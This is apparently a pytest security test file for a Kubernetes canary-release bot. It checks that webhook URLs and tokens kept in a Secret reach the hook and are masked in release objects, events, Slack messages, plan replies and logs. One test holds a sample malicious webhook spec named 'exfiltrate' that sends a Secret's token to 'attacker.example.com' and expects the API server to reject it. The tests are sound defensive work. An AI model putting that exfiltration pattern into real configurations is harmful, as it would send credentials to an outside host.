"""Issue 14, finding 5: profile secrets stay in a Secret in canary-bot's namespace.

End to end: a profile whose hook takes its URL and a token from the Secret
canary-bot-webhooks is started through the Slack front's ``start``; the engine reads the
Secret at call time and the hook receives both, while the CanaryRelease object, its
status, its Events, what Slack is sent, the ``plan`` reply and the logs never contain
them.
"""

from __future__ import annotations

import base64
import json
import logging
import uuid
from collections.abc import Iterator

import pytest
from kubernetes import client as k8s
from kubernetes.client.exceptions import ApiException

from bot.commands import ReleaseOptions
from bot.config import ConfigError, parse_config
from bot.logs import JsonFormatter
from bot.operations import Actor
from rollout.kube import RELEASES, Kube
from rollout.models import Phase
from rollout.store import ReleaseStore
from tests.engine.test_rollout import NEW, wait_phase
from tests.fixtures.engine import ControllerFactory
from tests.security.helpers import (
    USER,
    RecordingNotifier,
    allow_everything,
    hook_server,
    operations,
    release_events,
)

TOKEN = "tok-" + "9f8e7d6c5b4a39281706"
PATH_TOKEN = "Zq7xW3bN9kL2mP5rT8vY"


@pytest.fixture
def bot_namespace(kube_api_client: k8s.ApiClient) -> Iterator[str]:
    """canary-bot's own namespace (where the engine reads webhook Secrets)."""
    core = k8s.CoreV1Api(kube_api_client)
    name = f"t-canary-bot-{uuid.uuid4().hex[:6]}"
    core.create_namespace(k8s.V1Namespace(metadata=k8s.V1ObjectMeta(name=name)))
    try:
        yield name
    finally:
        try:
            core.delete_namespace(name, propagation_policy="Background")
        except ApiException as err:
            if err.status != 404:
                raise


def profile_config(namespace: str, bot_namespace: str) -> str:
    return json.dumps(
        {
            "authorization": allow_everything(namespace),
            "defaults": {"namespace": namespace, "progressDeadlineSeconds": 60, "targetPort": 9898},
            "webhooks": {"secretNamespace": bot_namespace},
            "profiles": {
                "guarded": {
                    "interval": "2s",
                    "threshold": 1,
                    "maxWeight": 20,
                    "stepWeight": 10,
                    "webhooks": [
                        {
                            "name": "smoke",
                            "type": "pre-rollout",
                            "urlFrom": {
                                "secretKeyRef": {"name": "canary-bot-webhooks", "key": "smoke-url"}
                            },
                            "metadata": {"cmd": "curl -s http://podinfo-canary/healthz"},
                            "metadataFrom": {
                                "token": {
                                    "secretKeyRef": {
                                        "name": "canary-bot-webhooks",
                                        "key": "smoke-token",
                                    }
                                }
                            },
                        }
                    ],
                }
            },
        }
    )


@pytest.mark.cluster
@pytest.mark.prometheus
async def test_a_profile_secret_reaches_the_hook_and_nothing_else(
    kube: Kube,
    kube_api_client: k8s.ApiClient,
    podinfo: str,
    bot_namespace: str,
    controller_factory: ControllerFactory,
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.DEBUG)
    namespace = podinfo
    async with hook_server() as hook:
        url = f"{hook.url}/services/T0/B0/{PATH_TOKEN}?sig={TOKEN}"
        data = {"smoke-url": url, "smoke-token": TOKEN}
        k8s.CoreV1Api(kube_api_client).create_namespaced_secret(
            bot_namespace,
            k8s.V1Secret(
                metadata=k8s.V1ObjectMeta(name="canary-bot-webhooks"),
                data={k: base64.b64encode(v.encode()).decode() for k, v in data.items()},
            ),
        )
        config = parse_config(profile_config(namespace, bot_namespace))
        ops = operations(kube, config)
        options = ReleaseOptions("podinfo", image=NEW, namespace=namespace, profile="guarded")

        plan = ops.plan(options)
        started = await ops.start(options, Actor(user=USER, channel="C0DEPLOYS"), "trigger-1")
        assert started.text.startswith(":seedling: Started release"), started.text
        name = started.text.split("`")[1]
        notifier = RecordingNotifier()
        await controller_factory(namespace, notifier=notifier, secret_namespace=bot_namespace)
        release = await wait_phase(
            ReleaseStore(kube), namespace, {Phase.SUCCEEDED, Phase.FAILED}, 120, name=name
        )

        assert release.status.phase == Phase.SUCCEEDED, release_events(kube_api_client, namespace)
        # the hook got the URL and the token from the Secret, and the plain metadata
        (method, path, received) = hook.requests[0]
        assert (method, path) == ("POST", f"/services/T0/B0/{PATH_TOKEN}?sig={TOKEN}")
        assert received["metadata"] == {
            "cmd": "curl -s http://podinfo-canary/healthz",
            "token": TOKEN,
        }

    assert (
        "• webhook smoke (pre-rollout) → URL from Secret canary-bot-webhooks (key smoke-url); "
        "metadata token from a Secret"
    ) in plan.text
    stored = await kube.get(RELEASES, namespace, name)
    seen = {
        "the CanaryRelease object": json.dumps(stored),
        "its Events": json.dumps(release_events(kube_api_client, namespace)),
        "what Slack is sent": notifier.text,
        "the plan reply": plan.text,
        "the start reply": started.text,
        # canary-bot's own log lines, as the JSON formatter writes them (the test's hook
        # server and admin client log requests themselves; they are not canary-bot)
        "the logs": "\n".join(
            JsonFormatter().format(r) for r in caplog.records if r.name.startswith("canary_bot")
        ),
    }
    forms = [TOKEN, PATH_TOKEN, base64.b64encode(TOKEN.encode()).decode()]
    leaks = [where for where, text in seen.items() if any(f in text for f in forms)]
    assert leaks == []
    assert any(r.name == "canary_bot.operations" for r in caplog.records)  # logs were seen
    assert stored is not None
    hook_spec = stored["spec"]["analysis"]["webhooks"][0]
    assert hook_spec["urlFrom"] == {
        "secretKeyRef": {"name": "canary-bot-webhooks", "key": "smoke-url"}
    }
    assert "url" not in hook_spec


@pytest.mark.cluster
async def test_the_api_server_refuses_secret_metadata_sent_to_a_url_of_the_authors_choice(
    kube_api_client: k8s.ApiClient, crd: None, namespace: str
) -> None:
    hook = {
        "name": "exfiltrate",
        "url": "http://attacker.example.com/collect",
        "metadataFrom": {
            "t": {"secretKeyRef": {"name": "canary-bot-webhooks", "key": "smoke-token"}}
        },
    }
    body = {
        "apiVersion": "canarybot.io/v1alpha1",
        "kind": "CanaryRelease",
        "metadata": {"name": "podinfo"},
        "spec": {
            "targetRef": {"name": "podinfo"},
            "ingressRef": {"name": "podinfo"},
            "images": {"podinfod": NEW},
            "analysis": {"webhooks": [hook]},
        },
    }
    with pytest.raises(ApiException) as refused:
        k8s.CustomObjectsApi(kube_api_client).create_namespaced_custom_object(
            "canarybot.io", "v1alpha1", namespace, "canaryreleases", body
        )
    assert refused.value.status == 422
    assert "metadataFrom needs urlFrom (secret values only go to a URL kept in a Secret)" in str(
        refused.value.body
    )


def test_a_profile_with_credentials_in_a_plain_url_is_refused_at_load() -> None:
    with pytest.raises(ConfigError) as refused:
        parse_config(
            "profiles:\n  p:\n    webhooks:\n      - name: notify\n"
            "        url: https://bot:hunter2@hooks.example.com/notify\n"
        )
    message = str(refused.value)
    assert "profiles.p: webhook notify has credentials in its url" in message
    assert "use urlFrom" in message and "hunter2" not in message


def test_plan_masks_a_plain_url(kube: Kube) -> None:
    config = parse_config(
        "profiles:\n  p:\n    webhooks:\n      - name: chat\n        type: event\n"
        f"        url: https://hooks.example.com/services/T0/B0/{PATH_TOKEN}?channel=deploys\n"
    )
    reply = operations(kube, config).plan(ReleaseOptions("podinfo", profile="p"))
    assert (
        "• webhook chat (event) → https://hooks.example.com/services/T0/B0/***?channel=***"
        in reply.text
    )
    assert PATH_TOKEN not in reply.text
